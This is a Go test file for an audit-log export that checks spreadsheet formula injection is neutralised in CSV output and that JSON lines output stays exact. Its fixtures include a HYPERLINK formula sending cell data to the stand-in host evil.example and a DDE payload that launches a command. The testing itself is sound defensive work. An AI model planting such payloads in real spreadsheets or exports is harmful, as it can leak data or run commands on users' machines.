package audit

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/dobrobot/dobrobot/commands"
	"github.com/dobrobot/dobrobot/storage/bolttest"
)

// TestCSVExportNeutralisesFormulas: a cell that a spreadsheet would read as
// a formula (one starting with =, +, -, @, a tab or a carriage return) is
// written with a leading single quote in the CSV export, in every column;
// the JSON lines export keeps the text exactly (issue 12, item 8).
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	db := bolttest.Open(t)
	at := time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)
	details := []string{
		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1,2)",
		"safe = text, with a comma",
	}
	err := db.Update(ctx, func(tx commands.Tx) error {
		for i, d := range details {
			actor := "U0ANN"
			if i == 3 {
				actor = "=cmd" // every column is neutralised, not only detail
			}
			if _, err := tx.AppendAudit(commands.AuditEntry{Time: at, Actor: actor, Action: commands.ActionRefused, Ticket: "PAY-1", Detail: d}); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}

	var out bytes.Buffer
	if err := Export(ctx, db, commands.AuditFilter{}, "csv", &out); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var gotDetails, gotActors []string
	for _, r := range rows[1:] {
		gotActors = append(gotActors, r[2])
		gotDetails = append(gotDetails, r[7])
	}
	wantDetails := []string{
		`'=HYPERLINK("https://evil.example/?"&A1,"click")`,
		"'+1+cmd|' /C calc'!A0",
		"'-2+3",
		"'@SUM(1,2)",
		"safe = text, with a comma",
	}
	if diff := cmp.Diff(wantDetails, gotDetails); diff != "" {
		t.Errorf("CSV details (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"U0ANN", "U0ANN", "U0ANN", "'=cmd", "U0ANN"}, gotActors); diff != "" {
		t.Errorf("CSV actors (-want +got):\n%s", diff)
	}

	out.Reset()
	if err := Export(ctx, db, commands.AuditFilter{}, "jsonl", &out); err != nil {
		t.Fatal(err)
	}
	var gotJSON []string
	for _, line := range strings.Split(strings.TrimSpace(out.String()), "\n") {
		var e commands.AuditEntry
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatal(err)
		}
		gotJSON = append(gotJSON, e.Detail)
	}
	if diff := cmp.Diff(details, gotJSON); diff != "" {
		t.Errorf("JSON lines details, which must stay exact (-want +got):\n%s", diff)
	}
}

// TestNeutraliseCell covers each leading character OWASP lists, and text
// that only contains one later.
func TestNeutraliseCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "a=1": "a=1", " =1": " =1", "'=1": "'=1", "PAY-1": "PAY-1", "2026-12-01T09:00:00Z": "2026-12-01T09:00:00Z",
	} {
		if got := neutraliseCell(in); got != want {
			t.Errorf("neutraliseCell(%q) = %q, want %q", in, got, want)
		}
	}
}
